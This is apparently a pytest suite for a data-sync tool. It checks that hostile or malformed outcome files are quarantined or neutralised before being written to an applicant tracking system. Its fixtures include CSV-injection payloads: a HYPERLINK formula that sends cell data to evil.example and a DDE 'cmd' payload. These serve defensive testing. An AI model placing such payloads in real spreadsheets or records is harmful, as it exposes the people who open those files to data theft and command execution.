"""Outcome files written by an attacker or a broken export: bad rows are quarantined, the good ones go
on, nothing crashes, and no control character or spreadsheet formula reaches an ATS write."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from syncbridge.cli import main
from syncbridge.config import load_settings
from syncbridge.connector import connector_class
from syncbridge.matching import Link
from syncbridge.outcomes import CANONICAL_COLUMNS, OutcomeFileError, OutcomeSourceSettings, read_outcomes
from syncbridge.plan import PlanState, make_plan

#: what spreadsheets run as a formula when it comes first in a cell (OWASP "CSV injection")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

ROW: dict[str, str] = {
    "outcome_id": "MI-1",
    "student_email": "ada@uni.example",
    "student_first_name": "Ada",
    "student_last_name": "Lovelace",
    "student_phone": "+1-555-0100",
    "student_school": "Northgate University",
    "employer": "Acme Corp",
    "project_id": "PRJ-1",
    "project_title": "Marketing Analytics",
    "role_title": "Data Analyst Intern",
    "team": "Growth",
    "supervisor_name": "Maria Lopez",
    "supervisor_email": "maria@acme.example",
    "supervisor_title": "Analytics Lead",
    "start_date": "2026-02-02",
    "end_date": "2026-03-13",
    "status": "completed",
    "hours": "60",
    "rating": "4.8",
    "would_hire": "yes",
    "skills": "Python:5; SQL:4",
    "comments": "Great work.",
    "deliverables": "https://docs.acme.example/report",
    "submitted_at": "2026-03-15T10:30:00Z",
}


def row(i: int, **over: str) -> dict[str, str]:
    return {**ROW, "outcome_id": f"MI-{i}", "student_email": f"s{i}@uni.example", **over}


def write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(CANONICAL_COLUMNS))
        writer.writeheader()
        writer.writerows(rows)
    return path


def read(path: Path, **settings: Any) -> Any:
    return read_outcomes(OutcomeSourceSettings(path=path, **settings))


# --- size and depth -------------------------------------------------------------------------------------


def test_a_50_mb_field_quarantines_its_row_and_the_good_rows_proceed(tmp_path: Path) -> None:
    huge = "A" * (50 * 1024 * 1024)
    path = write_csv(tmp_path / "o.csv", [row(1), row(2, comments=huge), row(3)])
    batch = read(path)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1", "MI-3"]
    [q] = batch.quarantined
    assert q.line == 3 and q.outcome_id == "MI-2"
    assert (
        q.reason
        == "comments: 52,428,800 characters, more than the 100,000 allowed (outcomes.max_field_chars)"
    )
    assert q.row["comments"] == "<52,428,800 characters, not kept>"  # the quarantine never stores 50 MB


def test_field_size_limit_of_the_csv_module_is_restored(tmp_path: Path) -> None:
    before = csv.field_size_limit()
    read(write_csv(tmp_path / "o.csv", [row(1, comments="B" * 200_000)]))
    assert csv.field_size_limit() == before


def test_over_long_json_value_is_quarantined(tmp_path: Path) -> None:
    path = tmp_path / "o.json"
    path.write_text(json.dumps([row(1), {**row(2), "student_school": "x" * 200_001}]))
    batch = read(path)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1"]
    assert batch.quarantined[0].reason.startswith("student_school: 200,001 characters")


def test_json_nested_100000_deep_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "o.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(OutcomeFileError) as err:
        read(path)
    assert str(err.value) == (
        f"outcomes file {path}: JSON nested too deeply to read (an outcome is at most 16 levels deep)"
    )


def test_jsonl_line_nested_100000_deep_is_quarantined_and_others_proceed(tmp_path: Path) -> None:
    path = tmp_path / "o.jsonl"
    deep = "[" * 100_000 + "]" * 100_000
    path.write_text("\n".join([json.dumps(row(1)), deep, json.dumps(row(3))]) + "\n")
    batch = read(path)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1", "MI-3"]
    assert [(q.line, q.reason) for q in batch.quarantined] == [(2, "nested more than 16 levels deep")]


def test_moderately_deep_record_is_quarantined_not_kept(tmp_path: Path) -> None:
    # deep enough to hurt later json.dumps / recursion, shallow enough for json.loads to succeed
    nested: Any = "x"
    for _ in range(400):
        nested = {"k": nested}
    path = tmp_path / "o.json"
    path.write_text(json.dumps([row(1), {**row(2), "skills": nested}]))
    batch = read(path)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1"]
    [q] = batch.quarantined
    assert q.reason == "skills: nested more than 16 levels deep"
    assert q.row["skills"] == "<nested too deeply, not kept>"


def _cli_config(tmp_path: Path, outcomes: Path, **sections: Any) -> Path:
    data: dict[str, Any] = {
        "version": 1,
        "state": {"url": f"sqlite:///{tmp_path}/state.db"},
        "outcomes": {"path": str(outcomes)},
        "connectors": {"acme": {"type": "greenhouse", "client_id": "a-1", "client_secret": "${GH_SECRET}"}},
        "routing": [{"employer": "Acme Corp", "connector": "acme"}],
        **sections,
    }
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def test_cli_plan_with_a_deep_json_file_exits_2_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GH_SECRET", "gh-secret-1")
    outcomes = tmp_path / "o.json"
    outcomes.write_text("[" * 100_000 + "]" * 100_000)
    result = CliRunner().invoke(main, ["-c", str(_cli_config(tmp_path, outcomes)), "plan"])
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        f"error: outcomes file {outcomes}: JSON nested too deeply to read "
        "(an outcome is at most 16 levels deep)"
    ]


# --- control characters ---------------------------------------------------------------------------------


def test_control_characters_are_stripped_from_free_text(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "o.csv",
        [
            row(
                1,
                student_first_name="A\x00da",
                project_title="Marketing\x07 Analytics\u202e",
                comments="line one\x00\r\nline\x1b two\x0bthree",
                skills="Py\x00thon:5",
            )
        ],
    )
    [o] = read(path).outcomes
    assert o.student.first_name == "Ada"
    assert o.project.title == "Marketing Analytics"
    assert o.evaluation.comments == "line one\nline two\nthree"
    assert o.evaluation.skills[0].name == "Python"


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("student_email", "a\x00b@uni.example"),
        ("outcome_id", "MI-\x002"),
        ("deliverables", "https://docs.acme.example/\x00r"),
        ("supervisor_email", "m\x1bx@acme.example"),
    ],
)
def test_control_characters_in_identifiers_quarantine_the_row(
    tmp_path: Path, column: str, value: str
) -> None:
    path = write_csv(tmp_path / "o.csv", [row(1), row(2, **{column: value})])
    batch = read(path)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1"]
    assert batch.quarantined[0].reason == f"{column}: contains control characters (such as NUL)"


# --- spreadsheet formulas in every write -----------------------------------------------------------------

EVIL = {
    "project_title": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "role_title": "=cmd|' /C calc'!A0",
    "team": "+1+1",
    "student_first_name": "@SUM(1+1)",
    "student_last_name": "-2+3",
    "student_school": "\t=1+1",
    "supervisor_name": "=1+1",
    "skills": "@SUM(1+1):5; SQL:4",
    "comments": '=HYPERLINK("https://evil.example")',
}


def _settings(neutralise: bool) -> Any:
    return load_settings(
        {
            "version": 1,
            "outcomes": {"path": "x.csv"},
            "connectors": {"gh": {"type": "greenhouse", "client_id": "a-1", "client_secret": "s3cret-x"}},
            "routing": [{"employer": "*", "connector": "gh"}],
            "matching": {"create_unmatched": True, "new_candidate_tags": ["-sourced"]},
            "history": {
                "tags": ["micro-intern", "=evil-tag"],
                "fields": {
                    "mi_rating": "evaluation.rating",
                    "mi_project": "project.title",
                    "mi_skills": "evaluation.skills",
                    "mi_team": "project.team",
                    "mi_comments": "evaluation.comments",
                    "mi_school": "student.school",
                },
            },
            "conversion": {
                "enabled": True,
                "approval": "auto",
                "rules": [
                    {
                        "name": "strong",
                        "requisition": {
                            "title": "{project.role_title}",
                            "department": "@dept",
                            "fields": {"mi_team": "project.team"},
                            "options": {"template_job_id": 1, "publish": "internal"},
                        },
                        "prescreen": {
                            "fields": {"mi_sup": "project.supervisor.name", "mi_score": "prescreen.score"}
                        },
                    }
                ],
            },
            "safety": {"neutralise_formulas": neutralise},
        }
    )


def _plan(tmp_path: Path, neutralise: bool) -> Any:
    path = write_csv(tmp_path / "o.csv", [row(1, **EVIL)])
    [o] = read(path).outcomes
    settings = _settings(neutralise)
    caps = {"gh": connector_class("greenhouse").capabilities}
    links = [Link(o.outcome_id, "gh", "unmatched")]
    return make_plan(settings, [o], links, capabilities=caps, state=PlanState())


def _strings(node: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in _strings(v, f"{path}.{k}" if path else str(k))]
    if isinstance(node, list):
        return [s for i, v in enumerate(node) for s in _strings(v, f"{path}.{i}")]
    return [(path, node)] if isinstance(node, str) else []


def test_every_write_kind_neutralises_formulas(tmp_path: Path) -> None:
    plan = _plan(tmp_path, neutralise=True)
    kinds = {a.kind for a in plan.actions}
    assert kinds == {
        "create_candidate",
        "add_note",
        "add_tags",
        "set_fields",
        "create_requisition",
        "publish",
        "attach",
        "prescreen",
    }
    for action in plan.actions:
        for where, text in _strings(action.stored_payload()):
            assert not text.startswith(FORMULA_TRIGGERS) or (where.endswith("phone")), (
                action.kind,
                where,
                text,
            )
    by_kind = {a.kind: a for a in plan.actions}
    create = by_kind["create_candidate"].stored_payload()
    assert create["first_name"] == "'@SUM(1+1)" and create["last_name"] == "'-2+3"
    assert create["phone"] == "+1-555-0100"  # a phone number stays a phone number
    assert create["tags"] == ["'-sourced"]
    fields = by_kind["set_fields"].stored_payload()["fields"]
    assert fields["mi_rating"] == 4.8  # numbers are never touched
    assert fields["mi_project"].startswith("'=HYPERLINK(")
    assert fields["mi_skills"].startswith("'@SUM(1+1) (5/5)")
    assert fields["mi_team"] == "'+1+1"
    assert fields["mi_school"] == "'=1+1"  # the reader trimmed the tab, the planner the formula
    assert by_kind["add_tags"].payload.tags == ["'=evil-tag", "micro-intern"]
    req = by_kind["create_requisition"].stored_payload()
    assert req["title"] == "'=cmd|' /C calc'!A0" and req["department"] == "'@dept"
    assert req["fields"]["mi_team"] == "'+1+1" and req["options"] == {
        "template_job_id": 1,
        "publish": "internal",
    }
    pre = by_kind["prescreen"].stored_payload()["prescreen"]
    assert pre["fields"] == {"mi_sup": "'=1+1", "mi_score": 4.8}
    assert pre["skills"][0]["skill"] == "'@SUM(1+1)"
    assert pre["marker"].startswith("syncbridge:")  # markers are never changed
    note = by_kind["add_note"].stored_payload()
    assert note["text"].startswith("Micro-internship completed")
    assert set(by_kind["set_fields"].formulas) == {
        "fields.mi_project",
        "fields.mi_skills",
        "fields.mi_team",
        "fields.mi_comments",
        "fields.mi_school",
    }


def test_turning_neutralisation_off_keeps_the_text_and_still_reports_it(tmp_path: Path) -> None:
    on = _plan(tmp_path, neutralise=True)
    off = _plan(tmp_path, neutralise=False)
    # same keys either way: switching the setting never writes an outcome twice
    assert [a.key for a in on.actions] == [a.key for a in off.actions]
    fields = next(a for a in off.actions if a.kind == "set_fields")
    assert fields.payload.fields["mi_team"] == "+1+1"
    assert "fields.mi_team" in fields.formulas


def test_control_characters_from_the_config_never_reach_a_write(tmp_path: Path) -> None:
    plan = _plan(tmp_path, neutralise=True)
    for action in plan.actions:
        for _, text in _strings(action.stored_payload()):
            assert "\x00" not in text and "\x1b" not in text


def test_cli_plan_shows_neutralised_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GH_SECRET", "gh-secret-1")
    outcomes = write_csv(tmp_path / "o.csv", [row(1, team="+1+1")])
    cfg = _cli_config(
        tmp_path,
        outcomes,
        matching={"create_unmatched": True},
        history={"fields": {"mi_team": "project.team"}},
    )
    result = CliRunner().invoke(main, ["-c", str(cfg), "plan"])
    assert result.exit_code == 0, result.output
    [line] = [x for x in result.output.splitlines() if x.startswith("formula-like text")]
    assert line.startswith("formula-like text neutralised with a leading apostrophe: ")
    assert line.endswith("set_fields for outcome MI-1: fields.mi_team")
    as_json = CliRunner().invoke(main, ["-c", str(cfg), "plan", "--json"])
    actions = json.loads(as_json.output)["actions"]
    [fields] = [a for a in actions if a["kind"] == "set_fields"]
    assert fields["payload"]["fields"]["mi_team"] == "'+1+1" and fields["formulas"] == ["fields.mi_team"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'=1+1"),  # a carriage return is a control character: removed, then neutralised
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("plain text", "plain text"),
        (" =not a formula", " =not a formula"),
    ],
)
def test_sanitise_payload_leading_characters(value: str, expected: str) -> None:
    from syncbridge.safety import sanitise_payload

    clean, formulas = sanitise_payload({"fields": {"f": value}, "email": "=x@y.example", "score": -1.5})
    assert clean["fields"]["f"] == expected
    assert clean["email"] == "=x@y.example" and clean["score"] == -1.5
    assert formulas == (["fields.f"] if value.strip() and value.startswith(FORMULA_TRIGGERS) else [])


def test_a_5000_digit_number_is_one_line_or_quarantined(tmp_path: Path) -> None:
    # Python refuses int() of more than 4300 digits with a ValueError that json.loads does not wrap
    big = "1" * 5000
    path = tmp_path / "o.json"
    path.write_text(f"[{big}]")
    with pytest.raises(OutcomeFileError, match="cannot be read: Exceeds the limit"):
        read(path)
    lines = tmp_path / "o.jsonl"
    lines.write_text(json.dumps(row(1)) + "\n" + f'{{"rating": {big}}}\n')
    batch = read(lines)
    assert [o.outcome_id for o in batch.outcomes] == ["MI-1"]
    assert batch.quarantined[0].line == 2 and batch.quarantined[0].reason.startswith("cannot be read")


def test_a_device_as_outcomes_file_is_refused_not_read_forever() -> None:
    with pytest.raises(OutcomeFileError, match="is not a regular file"):
        read(Path("/dev/zero"), format="csv")


def test_reasons_and_ignored_columns_carry_no_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "o.json"
    path.write_text(json.dumps([{**row(1), "rating": "9\x1b[31m", "evil\x00key": 1}]))
    batch = read(path)
    assert batch.quarantined[0].reason == "rating: '9[31m' is not a number"
    assert batch.ignored_columns == ["evilkey"]
